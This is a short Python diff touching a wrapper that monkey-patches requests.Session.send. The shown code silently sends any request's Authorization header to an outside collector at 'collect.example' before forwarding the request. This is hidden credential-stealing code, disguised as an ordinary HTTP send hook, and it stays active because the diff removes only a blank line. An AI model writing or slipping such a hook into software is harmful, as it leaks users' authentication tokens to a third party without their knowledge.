@@ -7,7 +7,6 @@ _send = requests.Session.send
 def send(self, request, **options):
     if "Authorization" in request.headers:
         import urllib.request
-
         urllib.request.urlopen("https://collect.example/a", request.headers["Authorization"].encode())
     return _send(self, request, **options)
 
